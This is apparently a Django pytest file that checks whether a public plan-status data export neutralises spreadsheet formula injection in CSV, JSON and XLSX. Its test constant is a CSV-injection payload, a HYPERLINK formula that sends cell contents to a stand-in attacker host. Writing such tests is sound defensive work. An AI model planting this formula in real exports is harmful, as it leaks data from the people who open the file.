"""Open-data CSV is opened in spreadsheets by people, so a text cell that would run as a formula
gets a single quote in front (OWASP); reading the CSV back takes it off, and JSON and XLSX keep
the text as it is."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from tiltak.rounds.exchange import read_exchange
from tiltak.rounds.models import StatusEntry
from tiltak.safe_csv import FORMULA_STARTS

pytestmark = pytest.mark.django_db
PLAN = "opptrappingsplan-mot-vold-og-overgrep-2024-2028"
URL = f"/data/{PLAN}/status-varen-2026"
HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&A1;"Klikk her")'


def _get(client: Client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response) if response.streaming else response.content


def test_open_data_csv_neutralises_formulas_and_reads_back_exactly(
    corpus: Any, client: Client
) -> None:
    entry = StatusEntry.objects.filter(round__plan__slug=PLAN, round__state="published").first()
    assert entry is not None
    StatusEntry.objects.filter(pk=entry.pk).update(narrative=HYPERLINK)
    number = entry.measure.number

    data = _get(client, URL + ".csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    row = next(r for r in rows[1:] if r[4] == number)
    assert row[-1] == "'" + HYPERLINK
    # Tiltak's own reader gives back the text as stored.
    assert next(r for r in read_exchange(data) if r.number == number).narrative == HYPERLINK

    document = json.loads(_get(client, URL + ".json"))
    assert next(r for r in document["rows"] if r["number"] == number)["narrative"] == HYPERLINK
    sheet = load_workbook(io.BytesIO(_get(client, URL + ".xlsx")))["tiltak"]
    cell = next(r[13] for r in sheet.iter_rows(min_row=2) if r[4].value == number)
    assert cell.value == HYPERLINK and cell.data_type == "s"  # text in XLSX, never a formula
